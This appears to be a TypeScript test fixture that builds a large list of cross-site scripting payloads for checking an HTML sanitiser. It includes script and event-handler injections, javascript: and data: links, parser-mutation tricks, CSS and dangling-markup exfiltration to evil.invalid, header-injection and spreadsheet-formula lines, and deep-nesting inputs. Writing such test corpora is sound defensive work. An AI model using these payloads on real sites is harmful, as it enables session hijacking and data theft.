/*
 * What people send who try to make somebody else's browser run or ask something. One list for every test: what the
 * sanitiser gives back and every page that shows foreign text are rendered with it. Whatever runs calls `pwned()`;
 * whatever asks, asks evil.invalid.
 */

const run = 'pwned()';
const js = `javascript:${run}`;
const evil = 'https://evil.invalid';
const encoded = js
  .split('')
  .map((letter) => `&#${letter.charCodeAt(0)};`)
  .join('');
const hexEncoded = js
  .split('')
  .map((letter) => `&#x${letter.charCodeAt(0).toString(16)}`)
  .join('');
const base64 = btoa(`<script>parent.${run}</script>`);
const events = (
  'onclick onerror onload onfocus onmouseover onpointerenter onanimationstart ontransitionend ' +
  'onbegin ontoggle onbeforetoggle onscrollend oncontentvisibilityautostatechange onwheel onpaste'
).split(' ');

/** A few that break out of HTML in every place where somebody might forget to escape. */
export const hostileTexts = [
  `<script>${run}</script>`,
  `"><img src=x onerror=${run}>`,
  `'><svg onload=${run}>`,
  `</textarea><script>${run}</script>`,
  `</p></li><iframe src="${js}"></iframe>`,
  `--><style>*{display:none}</style>`,
  `&lt;script&gt;${run}&lt;/script&gt; &quot; &amp;amp; &#60;b&#62;`,
  `" autofocus onfocus="${run}`,
  `{{constructor.constructor("${run}")()}} \${${run}} \\`,
] as const;

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script src="${evil}/x.js"></script>`,
  `<script src=//evil.invalid/x.js></script>`,
  `<script/src="${evil}/x.js"/></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\n>${run}</script\n>`,
  `<script type="module">import "${evil}/m.js"</script>`,
  `<script type="text/javascript" async defer>${run}`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `</p></li></ol><script>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<script>/*</p>*/${run}</script>`,
  `\u0000<script>${run}</script>`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `{{constructor.constructor("${run}")()}}`,
  '${pwned()} #{pwned()} <%= pwned() %> [[pwned()]]',
];

const handlers = [
  ...events.map((event) => `<div ${event}="${run}" tabindex=0 autofocus contenteditable>x</div>`),
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}"//`,
  `<img src="x"onerror="${run}">`,
  `<img/src='x'/onerror='${run}'>`,
  `<img src=x:x onerror\n=\n"${run}">`,
  `<img src=x onerror&#61;"${run}">`,
  `<img src=\`x\` onerror=\`${run}\`>`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}><option>x</select>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video autoplay onloadstart=${run}><source src=x onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<dialog open onclose=${run}><form method=dialog><button autofocus>x</button></form></dialog>`,
  `<button popovertarget=p autofocus>x</button><div popover id=p onbeforetoggle=${run}>x</div>`,
  `" autofocus onfocus="${run}" x="`,
  `' autofocus onfocus='${run}' x='`,
  `x onmouseover=${run} style=position:fixed;inset:0`,
  `<x onclick=${run} style="position:fixed;inset:0">x</x>`,
];

const addresses = [
  js,
  `<a href="${js}">x</a>`,
  `<a href="JaVaScRiPt:${run}">x</a>`,
  `<a href=" &#14; ${js}">x</a>`,
  `<a href="java\tscript:${run}">x</a>`,
  `<a href="java\nscript:${run}">x</a>`,
  `<a href="java&#x09;script:${run}">x</a>`,
  `<a href="java&Tab;script&colon;${run}">x</a>`,
  `<a href="java&NewLine;script:${run}">x</a>`,
  `<a href="\u0001${js}">x</a>`,
  `<a href="${encoded}">x</a>`,
  `<a href="${hexEncoded}">x</a>`,
  `<a href="javascript&#58;${run}">x</a>`,
  `<a href="vbscript:${run}">x</a>`,
  `<a href="livescript:${run}">x</a>`,
  `<a href="data:text/html;base64,${base64}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<a href="blob:${evil}/1">x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a href="//evil.invalid/x" ping="${evil}/ping">x</a>`,
  `<a href="\\\\evil.invalid\\x">x</a>`,
  `<a href="/desk/#/tickets" target=_top>x</a>`,
  `<a href="https://help.example.com@evil.invalid/">x</a>`,
  `<a href="http://[::1" onclick=${run}>x</a>`,
  `<a href="x" xlink:href="${js}">x</a>`,
  `<area href="${js}"><map name=m><area href="${js}" shape=default></map>`,
  `<form action="${js}"><button>x</button></form>`,
  `<form action="${evil}/steal"><input name=q value=1><button autofocus>x</button></form>`,
  `<button formaction="${js}">x</button>`,
  `<input type=image src="${evil}/i.png" formaction="${js}">`,
  `<isindex type=image src=1 onerror=${run}>`,
  `[x](${js})`,
  `![x](${evil}/i.png)`,
  `<${js}>`,
];

const loading = [
  `<img src="${evil}/i.png" alt="a picture">`,
  `<img srcset="${evil}/1.png 1x, ${evil}/2.png 2x" src="data:,">`,
  `<picture><source srcset="${evil}/s.webp"><img alt=x></picture>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  `<img lowsrc="${evil}/l.png" dynsrc="${evil}/d.png">`,
  `<input type=image src="${evil}/i.png">`,
  `<video poster="${evil}/p.png" src="${evil}/v.mp4" autoplay></video>`,
  `<audio autoplay src="${evil}/a.mp3"></audio>`,
  `<track src="${evil}/t.vtt" default>`,
  `<link rel=stylesheet href="${evil}/x.css">`,
  `<link rel=prefetch href="${evil}/x"><link rel=dns-prefetch href="//evil.invalid">`,
  `<link rel=modulepreload href="${evil}/x.js">`,
  `<link rel=icon href="${evil}/f.ico"><link rel=manifest href="${evil}/m">`,
  `<base href="${evil}/">`,
  `<base target=_blank><a href=x>x</a>`,
  `<meta http-equiv=refresh content="0;url=${evil}/">`,
  `<meta http-equiv="refresh" content="0;url=${js}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<meta name=referrer content=unsafe-url>`,
  `<table background="${evil}/t.png"><tr><td background="${evil}/c.png">x</table>`,
  `<body background="${evil}/b.png">`,
  `<object data="${evil}/o.swf"></object>`,
  `<object data="data:text/html;base64,${base64}"></object>`,
  `<embed src="${evil}/e.swf">`,
  `<embed src="data:text/html;base64,${base64}">`,
  `<applet code=x archive="${evil}/a.jar"></applet>`,
  `<iframe src="${js}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  `<iframe src="${evil}/f"></iframe>`,
  `<iframe src="data:text/html;base64,${base64}"></iframe>`,
  `<iframe><img src=x onerror=${run}></iframe>`,
  `<frameset><frame src="${js}"></frameset>`,
  `<portal src="${evil}/p"></portal><fencedframe></fencedframe>`,
  `<bgsound src="${evil}/b.mid"><layer src="${evil}/l">`,
];

const styles = [
  `<style>@import "${evil}/x.css";</style>`,
  `<style>*{background:url(${evil}/all)}</style>`,
  `<style>input[value^="a"]{background:url(${evil}/a)}</style>`,
  `<style>@font-face{font-family:x;src:url(${evil}/f.woff);unicode-range:U+41}p{font-family:x}</style>`,
  `<style>@keyframes x{}*{animation:x 1s}</style><div onanimationstart=${run}>x</div>`,
  `--><style>*{display:none}</style>`,
  `<p style="background:url(${evil}/s)">x</p>`,
  `<p style="background-image:\\75\\72\\6c(${evil}/u)">x</p>`,
  `<p style="background:u/**/rl(${evil}/c)">x</p>`,
  `<p style="width:expression(${run})">x</p>`,
  `<p style="-moz-binding:url(${evil}/x.xml#x);behavior:url(${evil}/x.htc)">x</p>`,
  `<p style="list-style:url(${js})">x</p>`,
  `<p style="content:image-set(url(${evil}/i) 1x);cursor:url(${evil}/c),auto">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">everything is covered</p>`,
  `<link rel=stylesheet href="data:text/css,*{background:url(${evil}/d)}">`,
  `<svg><style>*{fill:url(${evil}/f#x)}</style></svg>`,
  `<p class="button visually-hidden" id="answer" name="getElementById">x</p>`,
];

/** One parser takes for text what another takes for markup; what is written and read again becomes something else. */
const mutating = [
  `<svg><script>${run}</script></svg>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=href to="${js}"/><a><text y=20>x</text></a></svg>`,
  `<svg><a xlink:href="${js}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
  `<svg><image href="${evil}/i.svg"/><feImage href="${evil}/f"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<svg><p><style><g title="</style><img src onerror=${run}>">`,
  `<svg><textarea><img src=x onerror=${run}></textarea></svg>`,
  `<svg><title><img src=x onerror=${run}></title></svg>`,
  `<svg><desc><img src=x onerror=${run}></desc></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src onerror=${run}>`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
  `<math href="${js}">x</math>`,
  `<math><maction actiontype="statusline#${evil}" xlink:href="${js}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<noscript><img src="${evil}/n.png"></noscript>`,
  `<template><script>${run}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<textarea></textarea/><img src=x onerror=${run}>`,
  `<textarea><p title="</textarea><img src=x onerror=${run}>">`,
  `<title><p title="</title><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<xmp></xmp/><img src=x onerror=${run}>`,
  `<noembed><p title="</noembed><img src=x onerror=${run}>">`,
  `<noframes><p title="</noframes><img src=x onerror=${run}>">`,
  `<plaintext><img src=x onerror=${run}>`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<select><template><img src=x onerror=${run}></template></select>`,
  `<select><iframe></select><img src=x onerror=${run}>`,
  `<table><td><a href="${js}"><table><img src=x onerror=${run}>`,
  `<a id=x><b><a href="${js}"></b></a>`,
  `<option><style></option></select><img src=x onerror=${run}></style>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--!><img src=x onerror=${run}>-->`,
  `<!-- --!><img src=x onerror=${run}>`,
  `<!doctype html><!ENTITY x "${run}">&x;`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  `<?xml-stylesheet href="${js}"?><?php echo 1 ?>`,
  `<%00script>${run}</%00script>`,
  `<p title="\`onmouseover=${run}">x</p>`,
  `&lt;script&gt;${run}&lt;/script&gt; &quot; &amp;amp; &#60;b&#62;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
];

const dangling = [
  `<img src='${evil}/?`,
  `<img src="${evil}/?`,
  `<a href='${evil}/?x=`,
  `<form action=${evil}/steal><textarea name=x>`,
  `<button form=answer formaction=${evil}/steal>x</button>`,
  `<input form=answer name=message value=stolen>`,
  `<base target='`,
  `<meta http-equiv=refresh content='0;url=${evil}/?`,
  `<style>@import '${evil}/?`,
  `<p title="never closed`,
  `</div></main></body></html><p>after the end`,
  `<label for=answer-message>x</label><input id=answer-message>`,
];

const characters = [
  `\u202Egpj.exe\u202C <b>x</b>`,
  `＜script＞${run}＜/script＞`,
  `\uFF1Cimg src=x onerror=${run}\uFF1E`,
  `\u2028<script>\u2029${run}</script>`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `\uFEFF<script>${run}</script>`,
  `<ſcript>${run}</ſcript>`,
  `<İmg src=x onerror=${run}>`,
  `\u001B$B<script>${run}</script>`,
  `¼script¾${run}¼/script¾`,
  `𝐬cript <𝓲mg src=x onerror=${run}>`,
  `<p>${'\u0300'.repeat(200)}</p>`,
  `Z̴̡͓a̷l̶g̸o <img src=x onerror=${run}>`,
  `<img src=x onerror=\\u0070wned()>`,
  `=HYPERLINK("${evil}","x")`,
  `\r\nSet-Cookie: x=1\r\n\r\n<script>${run}</script>`,
];

/** Too deep to be read by recursion. */
const deep = [
  `${'<div>'.repeat(5000)}<img src=x onerror=${run}>`,
  `${'<b><i>'.repeat(2500)}<script>${run}</script>`,
  `${'<blockquote>'.repeat(5000)}x${'</blockquote>'.repeat(5000)}`,
  `${'<svg><foreignObject>'.repeat(1500)}<img src=x onerror=${run}>`,
  `${'<iframe>'.repeat(600)}<img src=x onerror=${run}>`,
  `<p ${'a=1 '.repeat(5000)}onclick=${run}>x</p>`,
];

/** Every payload, each of them once. */
export const payloads: readonly string[] = [
  ...new Set([
    ...hostileTexts,
    ...scripts,
    ...handlers,
    ...addresses,
    ...loading,
    ...styles,
    ...mutating,
    ...dangling,
    ...characters,
    ...deep,
  ]),
];

/** Payloads that fit into a field, and are not all spaces. */
export const fitting = (most: number): string[] =>
  payloads.filter((payload) => payload.length <= most && payload.trim() !== '');
